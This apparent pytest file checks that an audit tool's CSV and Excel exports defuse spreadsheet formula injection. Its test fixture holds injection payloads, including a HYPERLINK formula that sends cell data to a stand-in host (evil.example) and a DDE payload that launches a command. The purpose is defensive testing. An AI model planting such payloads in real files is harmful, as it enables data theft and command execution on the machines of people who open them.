"""Hostile text in findings reaches spreadsheets as text: the findings CSV defuses cells a
spreadsheet would run as formulas (unless --raw), and the Excel report never writes one."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import text

from auditkit.audits.export import defuse_formula
from auditkit.db.session import make_engine

HOSTILE = {
    "person_id": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "patient_id": "+1+1",
    "user_id": "@SUM(1)",
    "event_id": "-2+3",
    "message": "\t=1+1",
    "evidence": "\r=cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_database(sqlite_file: Path) -> Path:
    engine = make_engine(f"sqlite:///{sqlite_file}")
    with engine.begin() as connection:
        first = connection.execute(text("SELECT min(id) FROM finding")).scalar_one()
        assignments = ", ".join(f"{column} = :{column}" for column in HOSTILE)
        connection.execute(
            text(f"UPDATE finding SET {assignments}, financial_impact = -12.5 WHERE id = :id"),
            {**HOSTILE, "id": first},
        )
    engine.dispose()
    return sqlite_file


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_csv_defuses_formula_cells(cli: Any, hostile_database: Path, tmp_path: Path) -> None:
    target = tmp_path / "f.csv"
    cli.ok(
        "findings",
        "export",
        "q",
        "--format",
        "csv",
        "-o",
        str(target),
        "--database",
        f"sqlite:///{hostile_database}",
    )
    row = _rows(target)[0]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value.replace("\r", "\n"), column
    assert row["financial_impact"] == "-12.50"  # a number stays a number
    for row in _rows(target):
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def test_raw_keeps_cells_as_stored(cli: Any, hostile_database: Path) -> None:
    result = cli.ok(
        "findings",
        "export",
        "q",
        "--format",
        "csv",
        "--raw",
        "--database",
        f"sqlite:///{hostile_database}",
    )
    row = next(csv.DictReader(io.StringIO(result.stdout, newline="")))
    for column, value in HOSTILE.items():
        assert row[column] == value.replace("\r", "\n"), column


def test_json_is_never_altered(cli: Any, hostile_database: Path) -> None:
    result = cli.ok(
        "findings", "export", "q", "--format", "json", "--database", f"sqlite:///{hostile_database}"
    )
    first = json.loads(result.stdout)[0]
    for column, value in HOSTILE.items():
        assert first[column] == value


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("a=1", "a=1"),
        ("", ""),
        ("'=1", "'=1"),
        ("MRN001", "MRN001"),
    ],
)
def test_defuse_formula(value: str, expected: str) -> None:
    assert defuse_formula(value) == expected


def test_the_excel_report_keeps_hostile_text_as_text(
    cli: Any, hostile_database: Path, tmp_path: Path
) -> None:
    target = tmp_path / "r.xlsx"
    cli.ok("report", "q", "-o", str(target), "--database", f"sqlite:///{hostile_database}")
    with zipfile.ZipFile(target) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = openpyxl.load_workbook(target)
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.lstrip("\t\n").startswith(
                    ("=", "+", "@", "-2+3")
                ):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    found.add(cell.value)
    assert any("HYPERLINK" in value for value in found)
